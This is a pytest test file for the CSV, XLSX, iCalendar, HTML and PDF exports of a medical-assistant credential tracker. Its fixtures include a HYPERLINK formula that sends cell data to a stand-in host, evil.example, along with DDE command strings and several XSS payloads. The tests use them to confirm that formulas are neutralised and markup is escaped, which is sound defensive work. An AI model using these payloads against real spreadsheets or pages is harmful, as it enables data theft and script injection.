"""Roster exports: CSV, XLSX, iCalendar, the HTML audit report and its PDF, from the public output rows.

Rows are built the way the engine builds them, from the real knowledge base: task rows from
``scope.evaluate``, status rows citing the credential's real renewal sources.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from icalendar import Calendar

from ma_ladder import scope
from ma_ladder.errors import MaLadderError, UsageError
from ma_ladder.kb import KnowledgeBase
from ma_ladder.roster.exports import (
    STATUS_COLUMNS,
    TASK_COLUMNS,
    PdfError,
    neutralized,
    report_html,
    report_pdf,
    to_csv,
    to_ics,
    to_xlsx,
)

ON = date(2026, 12, 2)
STAMP = datetime(2026, 12, 2, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
UNMET = "injection training: 8 hours recorded, 10 required"
SCRIPT_NAME = "<script>alert('x')</script> Ruiz"


def cites_of(kb: KnowledgeBase, credential: str) -> list[dict[str, Any]]:
    return [{"title": s.title, "url": s.url} for s in kb.credentials[credential].renewal.sources]


def status_row(kb: KnowledgeBase, staff: str, name: str, credential: str | None, **kw: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "staff_id": staff,
        "name": name,
        "state": "CA",
        "credential": credential,
        "status": "current",
        "due": None,
        "needs": [],
        "grace_until": None,
        "reason": None,
        "citations": cites_of(kb, credential) if credential in kb.credentials else [],
    }
    row.update(kw)
    return row


def task_row(
    kb: KnowledgeBase, staff: str, name: str, state: str, task: str, credential: str, unmet: Sequence[str] = ()
) -> dict[str, Any]:
    a = scope.evaluate(kb, state, task, credential, ON)
    return {
        "staff_id": staff,
        "name": name,
        "state": state,
        "task": task,
        "decision": a.decision,
        "conditions": list(a.conditions),
        "unmet": list(unmet),
        "credential": credential,
        "citations": [{"title": c.title, "url": c.url} for c in a.citations],
        "disclaimer": a.disclaimer,
    }


@pytest.fixture(scope="module")
def statuses(kb: KnowledgeBase) -> list[dict[str, Any]]:
    return [
        status_row(
            kb,
            "1042",
            "Ana Ruiz",
            "CMA",
            status="expiring",
            due="2027-01-31",
            needs=[
                "60 recertification points (at least 10 administrative, 10 clinical, 10 general)",
                "renewal fee: unknown (the CE recertification fee was not found on an AAMA page)",
            ],
        ),
        status_row(
            kb,
            "1043",
            "Bo Chen",
            "RMA",
            status="grace",
            due=date(2026, 11, 15),
            grace_until="2027-02-13",
            needs=["annual fee 75 USD due 2026-11-15"],
        ),
        status_row(kb, "1044", "Cy Diaz", "CMA", status="current", due="2029-06-30"),
        status_row(
            kb,
            "2001",
            "Dee Evans",
            "WA:MA-C",
            state="WA",
            status="unknown",
            reason="issue and renewal dates not on the roster",
            citations=[
                {
                    "title": "Chapter 246-827 WAC",
                    "url": "https://apps.leg.wa.gov/WAC/default.aspx?cite=246-827&full=true",
                }
            ],
        ),
        status_row(kb, "1050", "Eli Fox", None, status="unknown", needs=["no credential on the roster"]),
    ]


@pytest.fixture(scope="module")
def tasks(kb: KnowledgeBase) -> list[dict[str, Any]]:
    return [
        task_row(kb, "1042", "Ana Ruiz", "CA", "injection", "CMA", [UNMET]),
        task_row(kb, "1044", "Cy Diaz", "CA", "injection", "CMA"),
        task_row(kb, "1044", "Cy Diaz", "CA", "iv", "CMA"),
        task_row(kb, "3001", "Flo Gray", "TX", "iv", "CMA"),
        task_row(kb, "2001", "Dee Evans", "WA", "injection", "WA:MA-C"),
    ]


def test_sample_rows_carry_the_decisions_the_tests_rely_on(tasks: list[dict[str, Any]]) -> None:
    assert [t["decision"] for t in tasks] == [
        "allowed_with_conditions",
        "allowed_with_conditions",
        "not_allowed",
        "unclear",
        "allowed_with_conditions",
    ]


# --- CSV ---------------------------------------------------------------------------------------------


def test_csv_has_the_columns_and_flattens_lists_dates_and_citations(
    kb: KnowledgeBase, statuses: list[dict[str, Any]]
) -> None:
    text = to_csv(statuses, STATUS_COLUMNS)
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(STATUS_COLUMNS)
    assert len(rows) == len(statuses)
    ana, bo, _, _, eli = rows
    assert ana["due"] == "2027-01-31" and bo["due"] == "2026-11-15"  # a string and a date, both ISO
    assert ana["needs"].split("; ")[0].startswith("60 recertification points")
    first = kb.credentials["CMA"].renewal.sources[0]
    assert ana["citations"].split("; ")[0] == f"{first.title} <{first.url}>"
    assert eli["credential"] == "" and eli["due"] == "" and eli["needs"] == "no credential on the roster"


def test_csv_of_chosen_columns_keeps_their_order_and_leaves_missing_ones_empty(
    statuses: list[dict[str, Any]],
) -> None:
    text = to_csv(statuses[:1], ["due", "name", "not_a_field"])
    assert text.splitlines() == ["due,name,not_a_field", "2027-01-31,Ana Ruiz,"]


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1"])
def test_csv_neutralizes_formula_text(kb: KnowledgeBase, text: str) -> None:
    row = status_row(kb, text, text, "CMA", needs=[text, "then fine"])
    out = next(csv.DictReader(io.StringIO(to_csv([row], STATUS_COLUMNS))))
    assert out["staff_id"] == out["name"] == "'" + text
    assert out["needs"] == "'" + text + "; then fine"


def test_csv_keeps_real_numbers_and_harmless_text(kb: KnowledgeBase) -> None:
    row = {"staff_id": 7, "name": "Mary-Jo O'Neil", "hours": -5, "ratio": -0.5, "flag": True}
    out = to_csv([row], ["staff_id", "name", "hours", "ratio", "flag"]).splitlines()[1]
    assert out == "7,Mary-Jo O'Neil,-5,-0.5,true"
    assert neutralized("a=b") == "a=b" and neutralized("-x") == "'-x"


def test_csv_rejects_bad_columns_and_rows_with_a_clear_message(statuses: list[dict[str, Any]]) -> None:
    with pytest.raises(UsageError, match="no columns"):
        to_csv(statuses, [])
    with pytest.raises(UsageError, match="given twice: name"):
        to_csv(statuses, ["name", "due", "name"])
    with pytest.raises(UsageError, match="row 2 is a str"):
        to_csv([statuses[0], "oops"], STATUS_COLUMNS)  # type: ignore[list-item]


# --- XLSX --------------------------------------------------------------------------------------------


def _workbook(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_has_two_sheets_with_a_bold_frozen_header_widths_and_date_cells(
    kb: KnowledgeBase, statuses: list[dict[str, Any]], tasks: list[dict[str, Any]]
) -> None:
    wb = _workbook(to_xlsx(statuses, tasks))
    assert wb.sheetnames == ["Renewals", "Tasks"]
    for ws, columns, rows in ((wb["Renewals"], STATUS_COLUMNS, statuses), (wb["Tasks"], TASK_COLUMNS, tasks)):
        header = next(ws.iter_rows(max_row=1))
        assert [c.value for c in header] == list(columns)
        assert all(c.font.bold for c in header)
        assert ws.freeze_panes == "A2"
        assert ws.max_row == len(rows) + 1
        widths = [ws.column_dimensions[c.column_letter].width for c in header]
        assert all(10 <= w <= 62 for w in widths), widths
    renewals = wb["Renewals"]
    col = {name: i + 1 for i, name in enumerate(STATUS_COLUMNS)}
    due = renewals.cell(row=2, column=col["due"])
    assert due.is_date and due.value.date() == date(2027, 1, 31)
    assert renewals.cell(row=3, column=col["grace_until"]).value.date() == date(2027, 2, 13)
    assert renewals.cell(row=5, column=col["due"]).value is None  # unknown stays empty, never a made-up date
    first = kb.credentials["CMA"].renewal.sources[0]
    assert renewals.cell(row=2, column=col["citations"]).value.startswith(f"{first.title} <{first.url}>; ")
    tcol = {name: i + 1 for i, name in enumerate(TASK_COLUMNS)}
    conditions = wb["Tasks"].cell(row=2, column=tcol["conditions"]).value
    assert conditions == "; ".join(tasks[0]["conditions"])
    assert wb["Tasks"].cell(row=2, column=tcol["unmet"]).value == UNMET


def test_xlsx_has_no_formula_cells_and_keeps_negative_numbers(kb: KnowledgeBase, tasks: list[dict[str, Any]]) -> None:
    evil = [
        status_row(kb, "=1+1", FORMULA, "CMA", needs=["@SUM(A1)"], reason="-2+3"),
        status_row(kb, "1", "Bell\x07 Ringer\x00", "CMA", due=-5, reason="+cmd"),  # control chars, a number
    ]
    bad_task = dict(tasks[0], name=FORMULA, conditions=["=cmd|' /C calc'!A0"])
    wb = _workbook(to_xlsx(evil, [bad_task]))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {"'=1+1", "'" + FORMULA, "'@SUM(A1)", "'-2+3", "'+cmd", "'=cmd|' /C calc'!A0"} <= values
    assert "Bell\ufffd Ringer\ufffd" in values
    minus = [c for c in cells if c.value == -5]
    assert minus and minus[0].data_type == "n"


# --- iCalendar ---------------------------------------------------------------------------------------


def _events(data: bytes) -> tuple[Any, list[Any]]:
    cal = Calendar.from_ical(data)
    return cal, list(cal.walk("VEVENT"))


def test_ics_has_one_all_day_event_per_known_due_date_and_grace_end(statuses: list[dict[str, Any]]) -> None:
    data = to_ics(statuses, "Valley Clinic", "2026.11.0", stamp=STAMP)
    cal, events = _events(data)
    assert len(events) == 4  # Ana, Bo (+ Bo's grace end), Cy; Dee and Eli have no due date
    by_uid = {str(e["UID"]): e for e in events}
    assert set(by_uid) == {
        "1042/CMA/2027-01-31@ma-ladder",
        "1043/RMA/2026-11-15@ma-ladder",
        "1043/RMA/grace-2027-02-13@ma-ladder",
        "1044/CMA/2029-06-30@ma-ladder",
    }
    ana = by_uid["1042/CMA/2027-01-31@ma-ladder"]
    assert str(ana["SUMMARY"]) == "Renew CMA: Ana Ruiz (staff 1042)"
    assert ana.decoded("DTSTART") == date(2027, 1, 31) and not isinstance(ana.decoded("DTSTART"), datetime)
    assert ana.decoded("DTEND") == date(2027, 2, 1)
    description = str(ana["DESCRIPTION"])
    assert "60 recertification points (at least 10 administrative, 10 clinical, 10 general)" in description
    assert "Not legal advice; confirm with the state board." in description
    alarms = list(ana.walk("VALARM"))
    assert len(alarms) == 1 and alarms[0].decoded("TRIGGER") == timedelta(days=-30)
    grace = by_uid["1043/RMA/grace-2027-02-13@ma-ladder"]
    assert "without retesting" in str(grace["SUMMARY"])
    assert str(cal["X-MA-LADDER-UNKNOWN-DUE"]) == "2"
    assert str(cal["X-MA-LADDER-DATASET-VERSION"]) == "2026.11.0"
    assert "2 credential(s) have no known due date" in str(cal["X-WR-CALDESC"])
    assert str(cal["X-WR-CALNAME"]) == "Valley Clinic: credential renewals"


def test_ics_is_stable_and_uids_never_collide(kb: KnowledgeBase, statuses: list[dict[str, Any]]) -> None:
    assert to_ics(statuses, "V", "2026.11.0", stamp=STAMP) == to_ics(statuses, "V", "2026.11.0", stamp=STAMP)
    tricky = [
        status_row(kb, "1-2", "A", "CMA", due="2027-01-01"),
        status_row(kb, "1", "B", "2-CMA", due="2027-01-01"),
        status_row(kb, "1/2", "C", "CMA", due="2027-01-01"),
        status_row(kb, "1", "D", "2/CMA", due="2027-01-01"),
    ]
    _, events = _events(to_ics(tricky, "V", "x", stamp=STAMP))
    assert len({str(e["UID"]) for e in events}) == 4


def test_ics_with_nothing_known_says_so(kb: KnowledgeBase) -> None:
    cal, events = _events(to_ics([status_row(kb, "9", "Z", "CMA", status="unknown")], "V", "x", stamp=STAMP))
    assert events == [] and str(cal["X-MA-LADDER-UNKNOWN-DUE"]) == "1"


def test_ics_rejects_a_date_it_cannot_read(kb: KnowledgeBase) -> None:
    with pytest.raises(UsageError, match=r"status row 1 \(staff 7\) due: 'soon' is not a date"):
        to_ics([status_row(kb, "7", "Z", "CMA", due="soon")], "V", "x")


# --- HTML report -------------------------------------------------------------------------------------


def _report(statuses: list[dict[str, Any]], tasks: list[dict[str, Any]], org: str = "Valley Clinic") -> str:
    return report_html(org, statuses, tasks, "2026.11.0", datetime(2026, 12, 2, 14, 5), ON)


def _section(html: str, heading: str) -> str:
    """The HTML from the heading that starts with ``heading`` up to the next h2 or h3."""
    start = html.index(heading)
    end = re.compile(r"<h[23][ >]").search(html, start + len(heading))
    return html[start : end.start() if end else len(html)]


def test_report_has_counts_windows_flags_sources_and_disclaimer(
    kb: KnowledgeBase, statuses: list[dict[str, Any]], tasks: list[dict[str, Any]]
) -> None:
    html = _report(statuses, tasks)
    summary = _section(html, "<h2>Summary")
    for status, n in (("current", 1), ("expiring", 1), ("grace", 1), ("lapsed", 0), ("unknown", 2)):
        assert f'<th scope="row">{status}</th><td class="num">{n}</td>' in summary
    assert '<th scope="row">flagged</th><td class="num">2</td>' in summary
    assert "Ana Ruiz" in _section(html, "<h3>Due in 31 to 60 days")  # due 2027-01-31, 60 days after ON
    assert "Ana Ruiz" not in _section(html, "<h3>Due within 30 days")
    past_due = _section(html, "<h3>Past due (in grace or lapsed): 1")
    assert "Bo Chen" in past_due and "2027-02-13" in past_due and "Ana Ruiz" not in past_due
    flagged = _section(html, "<h2>Tasks flagged: 2")
    assert UNMET in flagged and ">iv<" in flagged
    assert "Flo Gray" in _section(html, "<h2>Tasks the law leaves unclear: 1")
    sources = _section(html, "<h2>Sources")
    urls = re.findall(r'<a href="([^"]+)">', sources)
    assert len(urls) == len(set(urls)) > 5  # every citation once, numbered
    assert kb.credentials["CMA"].renewal.sources[0].url in urls
    assert "http://law.onecle.com/california/business/2069.html" in urls  # from the scope answer
    numbers = [int(n) for n in re.findall(r'<li id="src-(\d+)">', sources)]
    assert numbers == list(range(1, len(numbers) + 1))
    assert "Dataset version</dt><dd>2026.11.0" in html and "Evaluated on</dt><dd>2026-12-02" in html
    assert html.count("Not legal advice; confirm with the state board.") >= 2  # header and footer


def test_report_windows_put_each_due_date_in_one_bucket(kb: KnowledgeBase) -> None:
    rows = [
        status_row(kb, str(days), f"Due in {days}", "CMA", status="expiring", due=ON + timedelta(days=days))
        for days in (0, 30, 31, 60, 61, 90, 91, -1)
    ]
    html = _report(rows, [])
    found = {
        label: re.findall(r"<td>Due in (-?\d+)</td>", _section(html, f"<h3>{label}"))
        for label in ("Due within 30 days", "Due in 31 to 60 days", "Due in 61 to 90 days")
    }
    assert found == {
        "Due within 30 days": ["0", "30"],
        "Due in 31 to 60 days": ["31", "60"],
        "Due in 61 to 90 days": ["61", "90"],
    }


SAFE_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "footer", "section", "h1", "h2", "h3", "p", "dl",
    "dt", "dd", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "ul", "ol", "li", "a",
}  # fmt: skip


class Tags(HTMLParser):
    """Every element and attribute of a page, and the text of its style sheets."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self.style, self._in_style = "", False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data


def test_report_escapes_everything_and_loads_nothing(kb: KnowledgeBase, tasks: list[dict[str, Any]]) -> None:
    evil = status_row(
        kb,
        "<b>1</b>",
        SCRIPT_NAME,
        "CMA",
        due="2027-01-15",
        needs=[FORMULA, '"><img src=x onerror=alert(1)>'],
        reason="<style>body{display:none}</style>",
        citations=[{"title": "<i>t</i>", "url": "javascript:alert(1)"}],
    )
    task = dict(tasks[0], name=SCRIPT_NAME, conditions=["</td></tr></table><script>x()</script>"])
    html = _report([evil], [task], org="<script>alert('org')</script>")
    tags = Tags()
    tags.feed(html)
    assert set(tags.names) <= SAFE_TAGS, set(tags.names) - SAFE_TAGS
    assert tags.names.count("style") == 1 and "@import" not in tags.style and "url(" not in tags.style
    assert not [a for a in tags.attrs if a[0] == "src" or a[0].startswith("on")]
    assert {v.split(":")[0] for k, v in tags.attrs if k == "href" and not v.startswith("#")} <= {"http", "https"}
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; Ruiz" in html
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;click&#34;)" in html
    assert "&lt;style&gt;body{display:none}&lt;/style&gt;" in html
    assert "&lt;javascript:alert(1)&gt;" in html  # shown, never linked


def test_report_of_an_empty_roster_still_says_what_it_is() -> None:
    html = _report([], [])
    assert "No credentials on the roster." in html and "No tasks on the roster." in html
    assert "Not legal advice; confirm with the state board." in html


# --- PDF ---------------------------------------------------------------------------------------------


def _has_chromium() -> bool:
    return bool(os.environ.get("MA_LADDER_CHROMIUM") or shutil.which("chromium") or Path("/usr/bin/chromium").exists())


@pytest.mark.skipif(not _has_chromium(), reason="Debian's chromium is not installed")
def test_pdf_of_the_report(statuses: list[dict[str, Any]], tasks: list[dict[str, Any]]) -> None:
    data = report_pdf(_report(statuses, tasks))
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    assert len(data) > 20_000
    assert b"/Type /Page" in data or b"/Type/Page" in data


def test_pdf_without_chromium_says_to_install_it(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import ma_ladder.roster.exports.pdf as pdf

    monkeypatch.delenv("MA_LADDER_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setattr(pdf, "DEFAULT", str(tmp_path / "no-chromium"))
    with pytest.raises(MaLadderError, match=r"Chromium was not found.*`chromium`.*HTML report"):
        report_pdf("<p>x</p>")
    monkeypatch.setenv("MA_LADDER_CHROMIUM", str(tmp_path / "missing"))
    with pytest.raises(PdfError, match=r"MA_LADDER_CHROMIUM is .* not an executable file"):
        report_pdf("<p>x</p>")


def _fake_chromium(tmp_path: Path, body: str) -> str:
    exe = tmp_path / "fake-chromium"
    exe.write_text("#!/bin/sh\n" + body + "\n")
    exe.chmod(0o755)
    return str(exe)


def test_pdf_times_out_and_reports_a_failing_chromium(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("MA_LADDER_CHROMIUM", _fake_chromium(tmp_path, "sleep 30"))
    started = datetime.now(UTC)
    with pytest.raises(PdfError, match="did not finish printing the report within 1 s"):
        report_pdf("<p>x</p>", timeout=1)
    assert datetime.now(UTC) - started < timedelta(seconds=10)
    monkeypatch.setenv("MA_LADDER_CHROMIUM", _fake_chromium(tmp_path, "echo 'cannot open display' >&2; exit 3"))
    with pytest.raises(PdfError, match=r"exit 3\): cannot open display"):
        report_pdf("<p>x</p>")
    monkeypatch.setenv("MA_LADDER_CHROMIUM", _fake_chromium(tmp_path, "exit 0"))
    with pytest.raises(PdfError, match="wrote no PDF"):
        report_pdf("<p>x</p>")
